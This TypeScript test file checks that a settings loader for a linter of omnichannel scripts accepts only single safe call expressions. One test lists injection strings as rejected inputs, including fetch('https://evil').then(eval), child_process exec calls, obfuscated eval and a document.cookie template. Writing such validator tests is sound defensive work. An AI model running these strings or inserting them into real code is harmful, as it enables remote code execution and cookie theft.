import * as assert from 'node:assert/strict';
import { DEFAULT_SETTINGS, resolveSettings } from '../src';

describe('resolveSettings', () => {
  it('accepts valid settings', () => {
    const { settings, problems } = resolveSettings({
      rules: { 'missing-ui-refresh': 'error', 'link-overridden': 'off' },
      refreshFunctions: ['refreshCaseTab', 'Utils.refreshUi'],
      refreshCall: 'refreshCaseTab();',
      maxFileSize: 1000,
    });
    assert.deepEqual(problems, []);
    assert.deepEqual(settings, {
      rules: { 'missing-ui-refresh': 'error', 'link-overridden': 'off' },
      refreshFunctions: ['refreshCaseTab', 'Utils.refreshUi'],
      refreshCall: 'refreshCaseTab()',
      maxFileSize: 1000,
    });
  });

  it('falls back per value, with a message naming the setting', () => {
    const { settings, problems } = resolveSettings({
      rules: { 'missing-ui-refresh': 'warn', 'no-such-rule': 'error' },
      refreshFunctions: ['ok', 'not a name', 3],
      refreshCall: 42,
      maxFileSize: -1,
    });
    assert.deepEqual(settings.rules, {});
    assert.deepEqual(settings.refreshFunctions, ['ok']);
    assert.equal(settings.refreshCall, DEFAULT_SETTINGS.refreshCall);
    assert.equal(settings.maxFileSize, DEFAULT_SETTINGS.maxFileSize);
    assert.deepEqual(problems, [
      'omnichannel.rules.missing-ui-refresh: "warn" is not one of error, warning, info, off; using "warning".',
      'omnichannel.rules: "no-such-rule" is not a rule; the rules are invalid-entity-name, invalid-record-id, missing-ui-refresh, unhandled-rejection, invalid-arguments, unknown-api-member, link-overridden.',
      'omnichannel.refreshFunctions[1]: "not a name" is not a function name (letters, digits, _ and $, dotted like Utils.refreshUi); ignored.',
      'omnichannel.refreshFunctions[2]: 3 is not a function name (letters, digits, _ and $, dotted like Utils.refreshUi); ignored.',
      'omnichannel.refreshCall: expected the source text of a call such as "Microsoft.Apm.getFocusedSession().getFocusedTab().refresh()", got 42; using the default.',
      'omnichannel.maxFileSize: expected a number of characters, 0 or more, got -1; using 4194304.',
    ]);
  });

  it('accepts a refresh call of a name or member chain whose arguments are literals, names or member chains', () => {
    for (const call of [
      'Microsoft.Apm.getFocusedSession().getFocusedTab().refresh()',
      'formContext.data.refresh(false)',
      'myHelpers.refreshTab(tabId)',
      'this.tabs["case"].reload(-1, null, `t`, 0x1f, ui.tab.id)',
      'Microsoft.Apm?.getFocusedSession()?.getFocusedTab()?.refresh()',
    ]) {
      const { settings, problems } = resolveSettings({ refreshCall: call });
      assert.deepEqual(problems, [], call);
      assert.equal(settings.refreshCall, call);
    }
  });

  it('refuses any other refresh call, naming the setting, the value, the reason and the default used instead', () => {
    const refused: [string, string][] = [
      ["fetch('https://evil').then(eval)", 'argument 1 uses eval, which can run text as code'],
      ["x; require('child_process').exec('id')", 'it is more than one statement'],
      ["require('child_process').execSync('id')", 'what it calls passes arguments to require(…): only the last call may take arguments'],
      ["window['eval']('alert(1)')", 'what it calls uses eval, which can run text as code'],
      ["\\u0065val('alert(1)')", 'what it calls uses eval, which can run text as code'],
      ["setTimeout('alert(1)')", 'what it calls uses setTimeout, which can run text as code'],
      ["a.constructor.constructor('alert(1)')()", 'what it calls passes arguments to a.constructor.constructor(…): only the last call may take arguments'],
      ['new Refresher().run()', 'what it calls is not a name or member chain'],
      ['new Refresher()', 'it creates an object with new'],
      ["import('https://evil/x.js')", 'what it calls is not a name or member chain'],
      ['tab.onload = steal()', 'it assigns a value'],
      ['() => steal()', 'it defines a function'],
      ['refresh(() => steal())', 'argument 1 is a function'],
      ['refresh(`${document.cookie}`)', 'argument 1 is a template literal with ${…}'],
      ['refresh(steal())', 'argument 1 is neither a literal, a name nor a member chain such as tab.id'],
      ['refresh(...args)', 'argument 1 is neither a literal, a name nor a member chain such as tab.id'],
      ['refresh() //', 'it contains a comment'],
      ['refresh(/* */ tabId)', 'it contains a comment'],
      ['refresh(\n  tabId)', 'it spans more than one line'],
      ['void refresh()', 'it is not a call'],
      ['refresh`tab`', 'it is not a call'],
      ['refresh(', 'it is not valid JavaScript'],
      [`refresh(${'tab.'.repeat(200)}id)`, 'it is longer than 500 characters'],
    ];
    for (const [call, reason] of refused) {
      const { settings, problems } = resolveSettings({ refreshCall: call });
      assert.equal(settings.refreshCall, DEFAULT_SETTINGS.refreshCall, call);
      assert.equal(problems.length, 1, call);
      assert.ok(problems[0]!.includes(` is refused because ${reason}. `), `${call}: ${problems[0]}`);
    }
    assert.deepEqual(resolveSettings({ refreshCall: "fetch('https://evil').then(eval)" }).problems, [
      'omnichannel.refreshCall: "fetch(\'https://evil\').then(eval)" is refused because argument 1 uses eval, which can run text as code. ' +
      'Fixes insert this text into your code, so it must be a single call such as "formContext.data.refresh(false)" whose arguments are literals, names or member chains; ' +
      'using the default "Microsoft.Apm.getFocusedSession().getFocusedTab().refresh()".',
    ]);
  });

  it('treats missing settings as defaults and rejects a non-object', () => {
    assert.deepEqual(resolveSettings(undefined), { settings: DEFAULT_SETTINGS, problems: [] });
    const { settings, problems } = resolveSettings('strict');
    assert.equal(settings, DEFAULT_SETTINGS);
    assert.equal(problems.length, 1);
    assert.match(problems[0]!, /^omnichannel: expected an object/);
  });
});
